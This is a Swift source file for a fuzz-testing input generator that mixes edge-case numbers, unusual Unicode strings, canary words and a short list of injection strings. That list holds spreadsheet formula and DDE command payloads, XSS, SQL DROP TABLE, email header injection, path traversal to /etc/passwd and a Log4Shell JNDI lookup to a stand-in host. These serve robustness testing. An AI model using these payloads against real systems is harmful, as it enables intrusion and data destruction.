/// Texts that have broken programs: odd Unicode, odd numbers, odd lengths, and injections.
enum OddWords {
    /// Words that stand in no sentence of ours: one that turns up in a message came from the document.
    static let canaries = ["Quazzlewick", "Vrimpledon", "Zyxthorpe"]

    static func pick(_ dice: inout Dice, phrases: [String]) -> String {
        switch dice.number(0...11) {
        case 0...4: return dice.pick(phrases) ?? "School"
        case 5: return dice.pick(canaries) ?? ""
        case 6: return dice.pick(numbers) ?? "0"
        case 7: return dice.pick(injections) ?? ""
        case 8: return long(&dice)
        default: return dice.pick(letters) ?? ""
        }
    }

    static let numbers = [
        "0", "-1", "1", "65535", "65536", "2147483647", "2147483648", "-2147483648", "4294967296",
        "9223372036854775807", "9223372036854775808", "-9223372036854775808", "99999999999999999999", "1e309",
        "NaN", "0.0000001", "٣", "²", "½", "1000", "16384", "32/13/2026", "29/02/2026", "31.12.9999", "0/0/0",
        "24:00", "25:61", "2am pm", "12th", "999 999 9999", "A12345678901B",
    ]

    static let letters = [
        "", " ", "\t", "\n", "\r", "\r\n", "\u{0}", "\u{B}", "\u{C}", "\u{85}", "\u{A0}", "\u{AD}",
        "\u{200B}",
        "\u{200D}", "\u{200F}", "\u{202E}abc\u{202C}", "\u{2028}", "\u{2029}", "\u{FEFF}", "\u{FFFD}",
        "\u{FFFF}", "\u{10FFFF}", "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}",
        "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "\u{1F1EC}\u{1F1E7}", "e\u{301}",
        "\u{301}\u{301}\u{301}", "Z\u{351}\u{34B}\u{343}\u{366}\u{30D}algo", "שלום", "مرحبا", "ﬁ", "ß", "ẞ",
        "İ", "ı", "ǅ", "Ω", "ﷺ", "한국어", "ᄀ\u{1161}\u{11A8}", "ก็็็็็", "☒", "☐", "✓", "✗", "–", "—", "…", "’", "‘",
        "“", "”", "(", ")", ":", ";", ",", ".", "/", "&", "-", "|", "#", "*", "_", "`", "~~", "[x]", "[ ]",
        "'", "''", "\"", "((((((((", "))))))))", "::", ", , ,", "@", "a@b", "Mr", "Dr", "PC", "O’", "Mc",
    ]

    static let injections = [
        "=HYPERLINK(\"http://x.example/\"&A1)", "+cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "a\r\nBcc: x@y.example", "%0d%0aTo: x@y.example",
        "'; DROP TABLE minutes; --", "../../../../etc/passwd", "${jndi:ldap://x.example/a}", "{{7*7}}",
        "%n%n%s",
        "]]>", "-->", "&amp;lt;", "&#0;", "\u{1B}[31mred\u{1B}[0m",
    ]

    private static func long(_ dice: inout Dice) -> String {
        let unit =
            dice.pick(["a", "A ", "Ann Bell, ", "(", "e\u{301}", "- ", ":", "x\n", "\t", "1", "’"]) ?? "a"
        return String(repeating: unit, count: dice.chance(oneIn: 40) ? 100_000 : dice.number(20...2000))
    }
}
